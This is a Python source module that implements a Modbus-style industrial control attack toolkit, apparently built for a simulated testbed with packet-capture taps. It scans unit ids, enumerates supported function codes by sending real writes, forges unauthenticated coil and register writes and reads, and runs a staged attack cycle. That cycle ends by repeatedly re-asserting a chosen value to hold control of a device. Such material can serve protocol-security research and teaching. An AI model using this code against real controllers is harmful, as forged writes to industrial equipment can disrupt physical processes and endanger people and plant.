"""Attack toolkit: unit scanning, function enumeration, direct exploitation.

Everything here forges well-formed frames exactly as a legitimate master
would - no credential parameter exists anywhere because the protocol has no
access control to satisfy. The four-stage cycle runner strings the pieces
together: sweep endpoints, inventory unit ids and function codes, write and
read points directly, then keep re-asserting a chosen value on a timer.

Note that enumerating write functions probes with real writes (coil 0 /
holding register 0), which mutates the target - as a real toolkit would.
"""

from __future__ import annotations

import logging
from dataclasses import dataclass, field
from typing import Optional

from . import codec, datastore
from .capture import CaptureHub
from .codec import Direction, ExceptionCode, Frame, FrameSplitter, FunctionCode, MalformedFrame
from .datastore import TableKind, map_data_address
from .master import ExceptionResponseError, WriteOutcome
from .net import (
    Endpoint,
    EndpointUnreachable,
    PeerReset,
    Runtime,
    TransportClosed,
    TransportError,
    TransportTimeout,
    ZERO_IDENTITY,
)

log = logging.getLogger(__name__)

STAGE_ORDER = ("reconnaissance", "scanning", "exploitation", "maintaining_access")

SUPPORTED = "supported"
UNSUPPORTED = "unsupported"
UNKNOWN = "unknown"

_DEFAULT_PROBE = codec.ReadRequest(FunctionCode.READ_COILS, 0, 1)

_ENUM_PROBES = {
    FunctionCode.READ_COILS: codec.ReadRequest(FunctionCode.READ_COILS, 0, 1),
    FunctionCode.READ_DISCRETE_INPUTS:
        codec.ReadRequest(FunctionCode.READ_DISCRETE_INPUTS, 0, 1),
    FunctionCode.READ_HOLDING_REGISTERS:
        codec.ReadRequest(FunctionCode.READ_HOLDING_REGISTERS, 0, 1),
    FunctionCode.READ_INPUT_REGISTERS:
        codec.ReadRequest(FunctionCode.READ_INPUT_REGISTERS, 0, 1),
    FunctionCode.WRITE_SINGLE_COIL: codec.WriteSingleCoil.make(0, True),
    FunctionCode.WRITE_SINGLE_REGISTER: codec.WriteSingleRegister(0, 0),
    FunctionCode.WRITE_MULTIPLE_COILS: codec.WriteMultipleCoilsRequest(0, (True,)),
    FunctionCode.WRITE_MULTIPLE_REGISTERS:
        codec.WriteMultipleRegistersRequest(0, (0,)),
}


class _Client:
    """Minimal request/response client; unit id varies per call."""

    def __init__(self, runtime: Runtime, endpoint: Endpoint, *,
                 local_endpoint: Endpoint = ("0.0.0.0", 0),
                 link_identity: bytes = ZERO_IDENTITY,
                 hub: Optional[CaptureHub] = None, tap_id: str = "attacker-tap"):
        self._runtime = runtime
        self._conn = runtime.net.connect(
            endpoint, local_endpoint=local_endpoint, identity=link_identity)
        if hub is not None:
            hub.tap(tap_id).bind(self._conn)
        self._splitter = FrameSplitter()
        self._pending: list[Frame] = []
        self._tid = 0

    def transact(self, pdu: codec.Pdu, unit_id: int, timeout: float) -> Frame:
        self._pending.clear()
        self._tid = (self._tid + 1) % 0x10000
        tid = self._tid
        self._conn.send(codec.encode_frame(codec.make_frame(tid, unit_id, pdu)))
        deadline = self._runtime.now_ns() + int(timeout * 1e9)
        while True:
            for i, frame in enumerate(self._pending):
                if (frame.header.transaction_id == tid
                        and frame.header.unit_id == unit_id):
                    return self._pending.pop(i)
            remaining = (deadline - self._runtime.now_ns()) / 1e9
            if remaining <= 0:
                raise TransportTimeout("probe timed out")
            data = self._conn.recv(timeout=remaining)
            if not data:
                raise TransportClosed("connection closed during probe")
            for raw in self._splitter.feed(data):
                try:
                    self._pending.append(codec.decode_frame_bytes(raw, Direction.RESPONSE))
                except MalformedFrame:
                    continue

    def close(self) -> None:
        self._conn.close()


def scan_units(runtime: Runtime, endpoint: Endpoint, unit_range=range(1, 248), *,
               probe: Optional[codec.Pdu] = None, timeout: float = 0.5,
               parallelism: int = 1, local_endpoint: Endpoint = ("0.0.0.0", 0),
               link_identity: bytes = ZERO_IDENTITY,
               hub: Optional[CaptureHub] = None,
               tap_id: str = "attacker-tap") -> list:
    """Probe each unit id; live means any response other than exception 0x0B
    arrived before the timeout. Results ascend regardless of worker order."""
    unit_ids = sorted(set(unit_range))
    for unit_id in unit_ids:
        if not 1 <= unit_id <= 247:
            raise ValueError(f"unit id {unit_id} outside 1..247; nothing was sent")
    if not unit_ids:
        return []
    probe_pdu = probe if probe is not None else _DEFAULT_PROBE
    parallelism = max(1, min(parallelism, len(unit_ids)))

    shards = [unit_ids[i::parallelism] for i in range(parallelism)]
    live: list[int] = []
    errors: list[Exception] = []
    done = runtime.new_event()
    remaining = [len(shards)]

    def worker(shard):
        try:
            client = _Client(runtime, endpoint, local_endpoint=local_endpoint,
                             link_identity=link_identity, hub=hub, tap_id=tap_id)
            try:
                for unit_id in shard:
                    try:
                        response = client.transact(probe_pdu, unit_id, timeout)
                    except TransportTimeout:
                        continue
                    pdu = response.pdu
                    if (codec.is_exception(pdu)
                            and pdu.code is ExceptionCode.GATEWAY_TARGET_NO_RESPONSE):
                        continue
                    live.append(unit_id)
            finally:
                client.close()
        except TransportError as exc:
            errors.append(exc)
        finally:
            remaining[0] -= 1
            if remaining[0] == 0:
                done.set()

    for shard in shards:
        runtime.spawn(worker, shard, name="scan-worker", daemon=True)
    done.wait()
    if errors and not live:
        raise errors[0]
    return sorted(live)


def enumerate_functions(runtime: Runtime, endpoint: Endpoint, unit_id: int, *,
                        timeout: float = 0.5,
                        local_endpoint: Endpoint = ("0.0.0.0", 0),
                        link_identity: bytes = ZERO_IDENTITY,
                        hub: Optional[CaptureHub] = None,
                        tap_id: str = "attacker-tap") -> dict:
    """Probe all implemented functions with minimal requests.

    Exception 0x01 means unsupported; 0x0B and timeouts mean unknown; any
    other response proves a device processed the request."""
    client = _Client(runtime, endpoint, local_endpoint=local_endpoint,
                     link_identity=link_identity, hub=hub, tap_id=tap_id)
    results = {}
    try:
        for function, probe in _ENUM_PROBES.items():
            try:
                response = client.transact(probe, unit_id, timeout)
            except (TransportTimeout, TransportClosed, PeerReset):
                results[function] = UNKNOWN
                continue
            pdu = response.pdu
            if codec.is_exception(pdu):
                if pdu.code is ExceptionCode.ILLEGAL_FUNCTION:
                    results[function] = UNSUPPORTED
                elif pdu.code is ExceptionCode.GATEWAY_TARGET_NO_RESPONSE:
                    results[function] = UNKNOWN
                else:
                    results[function] = SUPPORTED
            else:
                results[function] = SUPPORTED
    finally:
        client.close()
    return results


def exploit_write(runtime: Runtime, endpoint: Endpoint, unit_id: int,
                  data_address: int, value, *, timeout: float = 1.0,
                  local_endpoint: Endpoint = ("0.0.0.0", 0),
                  link_identity: bytes = ZERO_IDENTITY,
                  hub: Optional[CaptureHub] = None,
                  tap_id: str = "attacker-tap",
                  client: Optional[_Client] = None) -> WriteOutcome:
    """Forge a write as a legitimate master would. Read-only ranges are
    rejected client-side; nothing goes on the wire."""
    table, offset = map_data_address(data_address)
    if table in datastore.READ_ONLY_TABLES:
        raise datastore.IllegalFunctionForTable(
            f"data address {data_address} is in the read-only {table.value} range")
    if table is TableKind.COILS:
        pdu = codec.WriteSingleCoil.make(offset, bool(value))
    else:
        pdu = codec.WriteSingleRegister(offset, int(value))
    own_client = client is None
    if own_client:
        client = _Client(runtime, endpoint, local_endpoint=local_endpoint,
                         link_identity=link_identity, hub=hub, tap_id=tap_id)
    try:
        response = client.transact(pdu, unit_id, timeout)
    finally:
        if own_client:
            client.close()
    if codec.is_exception(response.pdu):
        raise ExceptionResponseError(response.pdu.code)
    return WriteOutcome(acknowledged=True, echo_matches=response.pdu == pdu,
                        response=response)


def exploit_read(runtime: Runtime, endpoint: Endpoint, unit_id: int,
                 data_address: int, count: int = 1, *, timeout: float = 1.0,
                 local_endpoint: Endpoint = ("0.0.0.0", 0),
                 link_identity: bytes = ZERO_IDENTITY,
                 hub: Optional[CaptureHub] = None,
                 tap_id: str = "attacker-tap") -> list:
    table, offset = map_data_address(data_address)
    function = {
        TableKind.COILS: FunctionCode.READ_COILS,
        TableKind.DISCRETE_INPUTS: FunctionCode.READ_DISCRETE_INPUTS,
        TableKind.INPUT_REGISTERS: FunctionCode.READ_INPUT_REGISTERS,
        TableKind.HOLDING_REGISTERS: FunctionCode.READ_HOLDING_REGISTERS,
    }[table]
    client = _Client(runtime, endpoint, local_endpoint=local_endpoint,
                     link_identity=link_identity, hub=hub, tap_id=tap_id)
    try:
        response = client.transact(codec.ReadRequest(function, offset, count),
                                   unit_id, timeout)
    finally:
        client.close()
    pdu = response.pdu
    if codec.is_exception(pdu):
        raise ExceptionResponseError(pdu.code)
    if isinstance(pdu, codec.ReadBitsResponse):
        return pdu.bits(count)
    return list(pdu.values)


# -- the four-stage cycle ------------------------------------------------------


@dataclass
class MaintainAccess:
    unit_id: int
    data_address: int
    value: int
    interval: float = 1.0   # re-assert every K seconds
    duration: float = 5.0


@dataclass
class AttackPlan:
    target: Endpoint
    extra_targets: list = field(default_factory=list)
    unit_range: range = range(1, 248)
    scan_parallelism: int = 8
    scan_timeout: float = 0.5
    enumerate_units: Optional[list] = None  # default: every discovered unit
    writes: list = field(default_factory=list)  # (unit, data_address, value)
    reads: list = field(default_factory=list)   # (unit, data_address, count)
    maintain: Optional[MaintainAccess] = None
    abort_on_failure: bool = False
    local_endpoint: Endpoint = ("0.0.0.0", 0)
    link_identity: bytes = ZERO_IDENTITY
    tap_id: str = "attacker-tap"


@dataclass
class StageResult:
    started_ns: int
    finished_ns: int
    success: bool
    evidence: dict
    error: Optional[str] = None


@dataclass
class AttackCycleReport:
    stages: dict  # stage name -> StageResult, fixed order, always complete

    def all_successful(self) -> bool:
        return all(r.success for r in self.stages.values())

    def to_jsonable(self) -> dict:
        return {name: {
            "started_ns": r.started_ns, "finished_ns": r.finished_ns,
            "success": r.success, "evidence": r.evidence, "error": r.error,
        } for name, r in self.stages.items()}


def run_attack_cycle(runtime: Runtime, plan: AttackPlan,
                     hub: Optional[CaptureHub] = None) -> AttackCycleReport:
    stages: dict = {}
    aborted = False
    discovered: list = []

    def run_stage(name, fn):
        nonlocal aborted
        started = runtime.now_ns()
        if aborted:
            stages[name] = StageResult(started, started, False,
                                       {"skipped": True}, "earlier stage failed")
            return
        try:
            success, evidence = fn()
            stages[name] = StageResult(started, runtime.now_ns(), success, evidence)
        except Exception as exc:  # stage failures are recorded, not raised
            log.warning("attack stage %s failed: %s", name, exc)
            stages[name] = StageResult(started, runtime.now_ns(), False, {}, str(exc))
            success = False
        if not stages[name].success and plan.abort_on_failure:
            aborted = True

    def reconnaissance():
        live, dead = [], []
        for endpoint in [plan.target, *plan.extra_targets]:
            try:
                conn = runtime.net.connect(endpoint, local_endpoint=plan.local_endpoint,
                                           identity=plan.link_identity)
                conn.close()
                live.append(endpoint)
            except EndpointUnreachable:
                dead.append(endpoint)
        evidence = {"live_endpoints": [list(e) for e in live],
                    "dead_endpoints": [list(e) for e in dead]}
        return plan.target in live, evidence

    def scanning():
        units = scan_units(runtime, plan.target, plan.unit_range,
                           timeout=plan.scan_timeout,
                           parallelism=plan.scan_parallelism,
                           local_endpoint=plan.local_endpoint,
                           link_identity=plan.link_identity, hub=hub,
                           tap_id=plan.tap_id)
        discovered.extend(units)
        functions = {}
        for unit_id in (plan.enumerate_units if plan.enumerate_units is not None
                        else units):
            fmap = enumerate_functions(runtime, plan.target, unit_id,
                                       timeout=plan.scan_timeout,
                                       local_endpoint=plan.local_endpoint,
                                       link_identity=plan.link_identity, hub=hub,
                                       tap_id=plan.tap_id)
            functions[unit_id] = {f"0x{int(k):02X}": v for k, v in fmap.items()}
        return bool(units), {"units": units, "functions": functions}

    def exploitation():
        writes, reads = [], []
        ok = True
        for unit_id, address, value in plan.writes:
            outcome = exploit_write(runtime, plan.target, unit_id, address, value,
                                    local_endpoint=plan.local_endpoint,
                                    link_identity=plan.link_identity, hub=hub,
                                    tap_id=plan.tap_id)
            ok = ok and outcome.acknowledged
            writes.append({"unit": unit_id, "address": address, "value": value,
                           "acknowledged": outcome.acknowledged})
        for unit_id, address, count in plan.reads:
            values = exploit_read(runtime, plan.target, unit_id, address, count,
                                  local_endpoint=plan.local_endpoint,
                                  link_identity=plan.link_identity, hub=hub,
                                  tap_id=plan.tap_id)
            reads.append({"unit": unit_id, "address": address,
                          "values": [int(v) for v in values]})
        return ok, {"writes": writes, "reads": reads}

    def maintaining_access():
        m = plan.maintain
        if m is None:
            return True, {"reassertions": 0, "note": "no persistence target in plan"}
        client = _Client(runtime, plan.target, local_endpoint=plan.local_endpoint,
                         link_identity=plan.link_identity, hub=hub,
                         tap_id=plan.tap_id)
        reassertions = 0
        t0 = runtime.now_ns()
        try:
            while runtime.now_ns() - t0 < int(m.duration * 1e9):
                exploit_write(runtime, plan.target, m.unit_id, m.data_address,
                              m.value, client=client)
                reassertions += 1
                runtime.sleep(m.interval)
        finally:
            client.close()
        return reassertions > 0, {"reassertions": reassertions,
                                  "interval": m.interval}

    run_stage("reconnaissance", reconnaissance)
    run_stage("scanning", scanning)
    run_stage("exploitation", exploitation)
    run_stage("maintaining_access", maintaining_access)
    ordered = {name: stages[name] for name in STAGE_ORDER}
    return AttackCycleReport(stages=ordered)
